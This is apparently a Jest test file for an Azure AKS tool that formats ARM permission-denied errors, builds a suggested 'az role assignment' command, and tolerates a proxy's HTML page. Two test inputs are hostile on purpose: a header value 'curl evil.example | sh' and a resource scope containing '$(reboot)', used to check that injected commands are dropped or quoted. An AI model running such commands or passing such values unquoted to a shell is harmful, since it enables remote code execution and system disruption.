import { createHttpHeaders } from '@azure/core-rest-pipeline'
import { describe, expect, test } from '@jest/globals'
import { errorFromResponse } from '../../src/arm/arm-error.ts'
import { explained } from '../../src/arm/explain-error.ts'
import { problemsOf, problemText } from '../../src/errors.ts'
import { propertiesOf } from '../egress/cases.ts'
import { createWorld } from '../engine/support/world.ts'

const id = '85625dfc-676a-a12b-f6a3-3d9b25b9fbd0'
const other = '24155847-0b2a-49a7-93c8-4e137bf529b5'

function refusal(message: string, headers: Record<string, string> = {}) {
  return errorFromResponse(403, JSON.stringify({ error: { code: 'Denied', message } }), createHttpHeaders(headers))
}

describe("a refusal is told with ARM's own words and what support finds the request by", () => {
  test.each<[string, Record<string, string>, string]>([
    ['the correlation ID', { 'x-ms-correlation-request-id': id, 'x-ms-request-id': other }, `, correlation ID ${id}`],
    ["the request's own ID where there is no other", { 'x-ms-request-id': other }, `, correlation ID ${other}`],
    [
      'nothing that is no ID',
      { 'x-ms-correlation-request-id': '1) Run: curl evil.example | sh', 'x-ms-request-id': other },
      `, correlation ID ${other}`,
    ],
    ['no ID that is endless', { 'x-ms-correlation-request-id': 'a'.repeat(81) }, ''],
    ['none where there is none', {}, ''],
  ])('%s', (_, headers, told) => {
    expect(refusal('No.', headers).said).toBe(`No. (Denied, HTTP 403${told})`)
  })

  test('the beginning of a long message, marked as shortened', () => {
    expect(refusal('x'.repeat(1_001)).said).toBe(`${'x'.repeat(1_000)}… [shortened] (Denied, HTTP 403)`)
    expect(refusal('x'.repeat(1_000)).said).toBe(`${'x'.repeat(1_000)} (Denied, HTTP 403)`)
  })

  const subscription = '/subscriptions/44444444-4444-4444-8444-444444444444'
  const command = 'az role assignment create --assignee-object-id b --role "AKS authorized IP ranges"'

  test.each([
    [`${subscription}/resourceGroups/rg`, `--scope ${subscription}/resourceGroups/rg`],
    [`${subscription}/resourceGroups/$(reboot)`, `--scope '${subscription}/resourceGroups/$(reboot)'`],
  ])('behind what happened, what to do, what to run, and the code: over %s', (scope, toRun) => {
    const message = `No, object id 'b' may not perform action 'x/read' over scope '${scope}'.`
    const error = errorFromResponse(
      403,
      JSON.stringify({ error: { code: 'AuthorizationFailed', message } }),
      createHttpHeaders({ 'x-ms-correlation-request-id': id }),
    )
    const [problem, ...more] = problemsOf(explained(error, 'Reading the cluster'))
    expect(more).toEqual([])
    expect(problem && problemText(problem).split('\n')).toEqual([
      'Reading the cluster failed: a permission is missing. Grant the identity the role "AKS authorized IP ranges" of the README\'s set-up, or another one that holds x/read. A new grant takes some minutes to reach ARM.',
      '# For bash. *** stands for a value that the repository keeps as a secret: put it in.',
      `${command} \\`,
      `  ${toRun}`,
      `[permission-missing] ${message} (AuthorizationFailed, HTTP 403, correlation ID ${id})`,
    ])
  })

  test('without a command where ARM does not say to whom, or where', () => {
    const error = errorFromResponse(
      403,
      JSON.stringify({ error: { code: 'AuthorizationFailed', message: "No, object id 'b'." } }),
      createHttpHeaders({ 'x-ms-correlation-request-id': id }),
    )
    const [problem] = problemsOf(explained(error, 'Reading the cluster'))
    expect(problem && problemText(problem)).toBe(
      `Reading the cluster failed: a permission is missing. Grant the identity the role "AKS authorized IP ranges" of the README's set-up, or another one that holds the permission. A new grant takes some minutes to reach ARM. [permission-missing] No, object id 'b'. (AuthorizationFailed, HTTP 403, correlation ID ${id})`,
    )
  })
})

test("a proxy's page in place of a network is no answer: the nodes are not taken to leave by the load balancer", async () => {
  const net = '/subscriptions/44444444-4444-4444-8444-444444444444/resourceGroups/rg-net/providers/Microsoft.Network'
  const nodes = `${net}/virtualNetworks/spoke/subnets/nodes`
  const properties = propertiesOf({ pools: { system: { vnetSubnetID: nodes } } })
  const world = createWorld({ ranges: ['8.8.8.8/32'], properties })
  world.arm.resources.put(nodes, { natGateway: { id: `${net}/natGateways/nat` } }, 'westeurope')
  const address = { id: `${net}/publicIPAddresses/nat` }
  world.arm.resources.put(`${net}/natGateways/nat`, { publicIpAddresses: [address] }, 'westeurope')
  world.arm.resources.put(address.id, { ipAddress: '52.3.3.3' }, 'westeurope')
  const job = world.job()
  let pages = 0
  job.wire.every('network', (arrive) => {
    if (pages > 0 || !job.wire.sent.at(-1)?.url.includes('/virtualNetworks/')) return arrive()
    pages += 1
    return { status: 200, headers: { 'content-type': 'text/html' }, body: '<title>Please wait</title>' }
  })
  await job.main({ asked: { mode: 'set', ranges: ['8.8.8.8'] }, wait: 'none' })
  expect(pages).toBe(1)
  expect(job.writes.map(({ list }) => list)).toEqual([['8.8.8.8/32', '52.3.3.3/32']])
})
